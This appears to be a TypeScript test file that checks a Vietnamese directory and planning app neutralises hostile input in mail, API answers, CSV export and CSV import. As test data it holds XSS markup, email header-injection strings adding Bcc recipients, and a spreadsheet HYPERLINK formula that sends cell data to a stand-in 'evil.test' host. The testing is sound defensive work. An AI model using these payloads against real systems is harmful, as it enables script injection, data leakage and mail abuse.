/** Texts that want to be more than text: markup, header lines and formulas in names, in the mail's source, the API's answer and the export. */
import { beforeAll, describe, expect, test } from 'vitest'
import type { Unit } from '../../../shared/directory/model.ts'
import { directoryOf } from '../../../shared/directory/snapshot.ts'
import type { PlanState } from '../../../shared/plan/plan.ts'
import type { Client } from './support/client.ts'
import { directUnits, SO, smallDirectory } from './support/directory.ts'
import { itemsOf } from './support/items.ts'
import type { Mail } from './support/mails.ts'
import { type Product, sharedProduct } from './support/product.ts'
import { accepted, assignmentAt, nominee } from './support/story.ts'

const [MARKUP = '', FORMULA = '', HEADER = ''] = directUnits
const MARKUP_NAME = 'Trường <script>alert(1)</script> & "Một" <img src=x onerror=alert(2)>'
const FORMULA_NAME = '=HYPERLINK("http://evil.test?x="&A1,"Bấm vào đây")'
const HEADER_NAME = 'Trường Hai" <gian@evil.test>, =?utf-8?Q?B=0D=0ABcc:_an@evil.test?= "x'

/** As no import would let it in: what if such a name were in the record all the same? */
function hostileDirectory() {
  const { units, groups, people } = smallDirectory({ districts: 1, direct: 3 })
  const names: Readonly<Record<string, string>> = { [MARKUP]: MARKUP_NAME, [FORMULA]: FORMULA_NAME, [HEADER]: HEADER_NAME }
  return directoryOf(
    units.map((unit): Unit => ({ ...unit, name: names[unit.id] ?? unit.name })),
    groups,
    people,
  )
}

const productNow = sharedProduct(() => ({ directory: hostileDirectory() }))
let product: Product
let plan: PlanState
let officer: Client
let mails: readonly Mail[]

beforeAll(async () => {
  product = productNow()
  officer = product.as('officer', SO)
  plan = await product.issue()
  const clerk = product.as('clerk', MARKUP)
  const work = assignmentAt(plan.planId, '1', MARKUP)
  const nominees = [nominee('<b onclick="x()">Đậm</b>'), nominee('=1+1'), nominee('Lê "Nháy" Đơn')]
  accepted(await clerk.send('PUT', `${work}/draft`, { nominees, note: 'Dòng một\r\nBcc: an@evil.test\r\n\r\n<script>x()</script>' }))
  accepted(await clerk.send('POST', `${work}/submit`))
  await product.settle()
  mails = await product.mails()
}, 60_000)

/** Header lines only, unfolded. */
const headersOf = ({ raw }: Mail) => (raw.split(/\r?\n\r?\n/)[0] ?? '').replace(/\r?\n[ \t]+/g, ' ').split(/\r?\n/)
const addressOf = (unit: string) => product.directory.units.find(({ id }) => id === unit)?.contacts[0]?.email

describe('in a mail', () => {
  test('markup in a name or a note is shown as text, never as markup', () => {
    const theirs = mails.filter(({ to }) => to === addressOf(MARKUP))
    expect(theirs.map(({ subject }) => subject)).toEqual([expect.stringContaining('Kế hoạch'), expect.stringContaining('biên nhận')])
    for (const { html } of theirs) {
      expect(html).not.toMatch(/<script|<img|<b /i)
      expect(html).toContain('&lt;script&gt;alert(1)')
    }
    expect(theirs[1]?.html).toContain('&lt;b onclick')
    expect(theirs[1]?.text).toContain('<b onclick="x()">Đậm</b>')
  })

  test('no text becomes a header or another recipient', () => {
    for (const mail of mails) {
      const names = headersOf(mail).map((line) => line.split(':')[0]?.toLowerCase())
      expect(names.filter((name) => name === 'bcc' || name === 'cc')).toEqual([])
      for (const once of ['to', 'from', 'subject', 'content-type']) expect(names.filter((name) => name === once)).toHaveLength(1)
      const { to, cc, bcc } = mail.parsed
      const recipients = [to].flat().flatMap((box) => box?.value ?? [])
      expect(recipients.map(({ address }) => address)).toEqual([mail.to])
      expect([cc, bcc]).toEqual([undefined, undefined])
    }
    const [theirs] = mails.filter(({ to }) => to === addressOf(HEADER))
    const [box] = [theirs?.parsed.to].flat()
    expect(box?.value[0]?.name).toBe(HEADER_NAME)
  })
})

describe('at the API', () => {
  test('an answer is JSON that no browser takes for a page, with the text as it was written', async () => {
    const answer = await product.as('clerk', MARKUP).get<{ name: string }>(`/api/units/${MARKUP}/work`)
    expect(answer.body.name).toBe(MARKUP_NAME)
    expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8')
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    expect(answer.headers.get('cache-control')).toBe('no-store')
  })

  test('a name with a line break or another control character is refused', async () => {
    const work = assignmentAt(plan.planId, '3', HEADER)
    for (const name of ['Lê\r\nBcc: an@evil.test', 'Lê\u0000', 'Lê\u2028Văn', 'Lê\u007f']) {
      const answer = await product.as('clerk', HEADER).send('PUT', `${work}/draft`, { nominees: [nominee(name)], note: '' })
      expect([answer.status, answer.body.code, answer.body.field]).toEqual([400, 'invalid', 'nominees.0.name'])
    }
  })
})

test('in the export a formula is text, and a quote ends no cell', async () => {
  const { text, headers } = await officer.get(`/api/plans/${plan.planId}/progress.csv`)
  expect(headers.get('content-disposition')).toMatch(/^attachment;/)
  expect(text).toContain(`"'=HYPERLINK(""http://evil.test?x=""&A1,""Bấm vào đây"")"`)
  expect(text).toContain('"Trường <script>alert(1)</script> & ""Một"" <img src=x onerror=alert(2)>"')
  for (const line of text.split('\r\n')) expect(line).not.toMatch(/^"?[=+\-@\t]|,"?[=+\-@\t]/)
})

describe('in an import', () => {
  const HEADERS = 'Mã đơn vị,Tên đơn vị,Loại đơn vị,Thư điện tử 1,Hiệu lực từ'
  const importing = (rows: readonly string[], dryRun = false) => {
    const base64 = Buffer.from([HEADERS, ...rows].join('\r\n')).toString('base64')
    return officer.send<{ saved: number; rows: { row: number; outcome: string; refusals: { code: string; sentence: string }[] }[] }>(
      'POST',
      '/api/directory/imports',
      { fileName: 'don-vi.csv', dryRun, base64 },
    )
  }
  const row = (name: string, email: string) => `,"${name.replaceAll('"', '""')}",Đơn vị trực thuộc Sở,"${email}",01/01/2021`

  const addresses = [
    'khong-phai-thu',
    'a@b',
    'a b@truong.test',
    'a@truong.test\r\nBcc: an@evil.test',
    'An <an@evil.test>',

    'á@truong.test',
  ]
  test.each(addresses)('an address that is none is refused by its row: %j', async (address) => {
    const { body } = accepted(
      await importing(
        [row(`Trường ${addresses.indexOf(address)}`, address), row(`Trường Tốt ${addresses.indexOf(address)}`, 'tot@truong.test')],
        true,
      ),
    )
    expect(body.rows.map(({ outcome }) => outcome)).toEqual(['refused', 'new'])
    expect(body.rows[0]?.refusals[0]).toMatchObject({
      code: expect.stringMatching(/bad-email|control-character/),
      sentence: expect.stringMatching(/.{15,}/),
    })
  })

  test('a name that is a formula or holds a control character is refused, and the row beside it stands', async () => {
    const hostile = ['=1+1', '+84', '@cmd', 'Trường\u0007', 'Trường\u202eABC', 'x'.repeat(201)]
    const { body } = accepted(
      await importing([...hostile.map((name, index) => row(name, `x${index}@truong.test`)), row('Trường Ngay Ngắn', 'tot@truong.test')]),
    )
    expect(body.rows.map(({ outcome }) => outcome)).toEqual([...hostile.map(() => 'refused'), 'new'])
    expect(body.saved).toBe(1)
  })

  test('what is no table at all changes nothing', async () => {
    const before = await itemsOf(product.machine)
    for (const bytes of [Buffer.from('%PDF-1.7'), Buffer.from([0xff, 0xfe, 0x00]), Buffer.from('a,"b\nc'), Buffer.alloc(0)]) {
      const file = { fileName: 'x.csv', dryRun: false, base64: bytes.toString('base64') }
      const answer = await officer.send('POST', '/api/directory/imports', file)
      expect([answer.status, answer.body.code]).toEqual([409, 'import-unreadable'])
    }
    expect(await itemsOf(product.machine)).toEqual(before)
  })
})
